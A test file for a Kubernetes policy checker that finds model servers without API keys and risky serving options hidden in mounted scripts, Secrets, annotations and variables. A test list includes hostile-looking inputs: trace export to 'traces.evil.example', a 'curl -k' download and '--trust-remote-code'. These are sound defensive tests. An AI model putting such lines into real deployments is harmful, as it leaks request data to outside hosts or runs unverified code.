"""Rules on commands see the commands of the scripts that a container runs, wherever they come from."""

from __future__ import annotations

import base64
from typing import Any

import pytest

from inferplan.planning.policy_check import stack_of
from inferplan.policies.engine.report import check_stack
from inferplan.policies.engine.settings import Settings
from tests.policies.cases import recording_of

OWN = "registry.acme.example/base:1.2.0"
SERVE = "#!/bin/bash\nset -eu\nexec vllm serve /models/m --port 8000 {}\n"
KEYLESS = SERVE.format("--disable-log-stats")
KEYED = SERVE.format("--api-key $(cat /keys/key)")
CONFIG_MAP, SECRET = "core/v1:ConfigMap", "core/v1:Secret"


def rules(
    files: dict[str, str] | None,
    command: list[str] | None = None,
    *,
    args: list[str] | None = None,
    volume: dict[str, Any] | None = None,
    mount: str = "/code",
    kind: str = CONFIG_MAP,
    part: str = "data",
    annotations: dict[str, str] | None = None,
    **fields: Any,
) -> set[str]:
    """The rules that a Deployment breaks, which mounts the files of an object at `mount`."""
    container = {
        "name": "server",
        "image": OWN,
        "ports": [{"containerPort": 8000}],
        "volumeMounts": [{"name": "code", "mountPath": mount}],
        **({"command": command} if command else {}),
        **({"args": args} if args else {}),
        **fields,
    }
    template = {
        "metadata": {"annotations": annotations or {}},
        "spec": {
            "containers": [container],
            "volumes": [{"name": "code", **(volume or {"configMap": {"name": "code"}})}],
        },
    }
    listed = [
        ("apps/v1:Deployment", {"spec": {"template": template}}, "server"),
        *([(kind, {part: files}, "code")] if files else ()),
    ]
    resources = [
        {
            "type": f"kubernetes:{type_}",
            "name": name,
            "inputs": {"metadata": {"name": name, "namespace": "models"}, **inputs},
        }
        for type_, inputs, name in listed
    ]
    report = check_stack(stack_of(recording_of(resources)), Settings(today="2026-11-29"))
    return {each.rule.id for each in (*report.violations, *report.advice)}


KEY = "model-require-server-key"


@pytest.mark.parametrize(
    ("command", "name"),
    [
        (["bash", "/code/go.sh"], "go.sh"),
        (["/code/go"], "go"),
        (["sh", "-c", "cd /code && exec ./go.sh"], "go.sh"),
        (["sh", "-c", "source /code/go.txt"], "go.txt"),
        (["tini", "--", "/code/go.sh"], "go.sh"),
    ],
)
def test_a_server_that_a_script_starts_needs_a_key(command, name):
    assert KEY in rules({name: KEYLESS}, command)
    assert KEY not in rules({name: KEYED}, command)


@pytest.mark.parametrize(
    "program",
    [
        "import os\nargs = ['vllm', 'serve', '/models/m'{}]\nos.execvp(args[0], args)\n",
        "import subprocess as s\ns.run(['vllm', 'serve', '/models/m'{}], check=True)\n",
        "import os\nos.execlp('vllm', 'vllm', 'serve', '/models/m'{})\n",
    ],
)
def test_a_program_that_starts_a_server_is_seen(program):
    command = ["python3", "/code/go.py"]
    assert KEY in rules({"go.py": program.format("")}, command)
    assert KEY not in rules({"go.py": program.format(", '--api-key', key")}, command)


def test_a_program_that_only_names_a_server_is_calm():
    program = "ENGINES = ['vllm', 'sglang']\nprint(ENGINES)\n"
    assert KEY not in rules({"go.py": program}, ["python3", "/code/go.py"])


def test_a_script_may_set_the_key():
    script = "export VLLM_API_KEY=$(cat /keys/key)\nexec vllm serve /models/m"
    assert KEY not in rules({"go.sh": script}, ["/code/go.sh"])
    assert KEY in rules({"go.sh": script.replace("$(cat /keys/key)", "")}, ["/code/go.sh"])


def test_a_script_that_a_script_runs_is_seen():
    files = {"a.sh": "#!/bin/sh\nsleep 1\n. /code/env\nexec bash /code/b.txt\n", "b.txt": KEYLESS}
    assert KEY in rules(files, ["/code/a.sh"])
    assert KEY not in rules({**files, "b.txt": KEYED}, ["/code/a.sh"])


def test_a_script_that_no_command_runs_is_not_judged():
    files: dict[str, str] = {"go.sh": KEYED, "other.sh": KEYLESS}
    assert KEY not in rules(files, ["bash", "/code/go.sh"])


@pytest.mark.parametrize(
    ("kind", "part", "volume"),
    [
        (SECRET, "stringData", {"secret": {"secretName": "code"}}),
        (SECRET, "data", {"secret": {"secretName": "code"}}),
        (SECRET, "data", {"projected": {"sources": [{"secret": {"name": "code"}}]}}),
        (CONFIG_MAP, "binaryData", {"projected": {"sources": [{"configMap": {"name": "code"}}]}}),
    ],
)
def test_a_script_is_seen_wherever_it_is_kept(kind, part, volume):
    text = KEYLESS if part == "stringData" else base64.b64encode(KEYLESS.encode()).decode()
    assert KEY in rules({"go.sh": text}, ["/code/go.sh"], kind=kind, part=part, volume=volume)


def test_a_script_in_an_annotation_is_seen():
    path = {"path": "go.sh", "fieldRef": {"fieldPath": "metadata.annotations['acme/go']"}}
    volume = {"downwardAPI": {"items": [path]}}
    assert KEY in rules(None, ["/code/go.sh"], volume=volume, annotations={"acme/go": KEYLESS})


def test_the_entrypoint_of_an_image_runs_a_script_in_its_place():
    assert KEY in rules({"10-go.sh": KEYLESS}, mount="/docker-entrypoint.d")
    assert KEY not in rules({"10-go.sh": KEYLESS}, mount="/srv/files")


def test_the_message_names_the_script():
    files = {"go.sh": KEYLESS}
    container = {"name": "server", "image": OWN, "command": ["/code/go.sh"]}
    container |= {"volumeMounts": [{"name": "code", "mountPath": "/code"}]}
    spec = {"containers": [container], "volumes": [{"name": "code", "configMap": {"name": "code"}}]}
    resources = [
        {
            "type": f"kubernetes:{type_}",
            "name": name,
            "inputs": {"metadata": {"name": name, "namespace": "models"}, **inputs},
        }
        for type_, name, inputs in (
            ("apps/v1:Deployment", "server", {"spec": {"template": {"spec": spec}}}),
            (CONFIG_MAP, "code", {"data": files}),
        )
    ]
    report = check_stack(stack_of(recording_of(resources)), Settings(today="2026-11-29"))
    messages = [each.message for each in report.violations if each.rule.id == KEY]
    assert len(messages) == 1
    assert "(as /code/go.sh runs it)" in messages[0]


SIBLINGS = [
    "exec vllm serve /models/m --enable-log-requests",
    "exec vllm serve mistralai/Ministral-8B-Instruct-2410",
    "exec vllm serve /models/m --tensor-parallel-size 8",
    "exec vllm serve /models/m --otlp-traces-endpoint=http://traces.evil.example:4317",
    "exec tritonserver --model-repository=/models --model-control-mode=poll",
    "exec python -m sglang.launch_server --model-path /models/m --tp 2 --api-key=x",
    "exec vllm serve /models/m --trust-remote-code",
    "exec vllm serve /models/m --tool-server=demo",
    "curl -k https://acme.example/x > /tmp/x",
]
# The rules that report a script at the script itself.
AT_FILES = {
    "model-disallow-development-switches",
    "model-disallow-trust-remote-code",
    "object-require-verified-tls",
    "pod-restrict-mounted-files",
}


@pytest.mark.parametrize("script", SIBLINGS)
def test_a_script_breaks_the_rules_that_its_commands_break(script):
    resources = {"limits": {"nvidia.com/gpu": 2}, "requests": {"nvidia.com/gpu": 2}}
    idle = rules(None, ["sh", "-c", "exec sleep 9"], resources=resources)
    inline = rules(None, ["sh", "-c", script], resources=resources)
    mounted = rules({"go.sh": script}, ["sh", "/code/go.sh"], resources=resources)
    assert mounted - AT_FILES == inline - AT_FILES
    assert mounted - idle


def test_options_of_a_file_are_seen_by_every_rule_on_options():
    files = {"serve.yaml": "model: acme/glm\nenable-log-requests: true\nmiddleware: [acme.spy]\n"}
    found = rules(files, ["vllm", "serve", "--config", "/code/serve.yaml"])
    assert {"model-disallow-request-logging", "model-require-revision"} <= found
    assert "pod-restrict-mounted-files" in found


@pytest.mark.parametrize("kind", [CONFIG_MAP, SECRET])
def test_variables_of_an_object_are_judged(kind):
    key = "configMapRef" if kind == CONFIG_MAP else "secretRef"
    value = "1" if kind == CONFIG_MAP else base64.b64encode(b"1").decode()
    files = {"VLLM_SERVER_DEV_MODE": value}
    command = ["vllm", "serve", "/models/m"]
    found = rules(files, command, kind=kind, envFrom=[{key: {"name": "code"}}])
    assert "pod-restrict-mounted-files" in found


def test_a_command_in_a_variable_of_a_config_map_is_judged():
    env = [{"name": "GO", "valueFrom": {"configMapKeyRef": {"name": "code", "key": "go"}}}]
    files = {"go": "pip install acme-serve && acme-serve"}
    found = rules(files, ["sh", "-c"], args=["$(GO)"], env=env)
    assert "model-disallow-trust-remote-code" in found
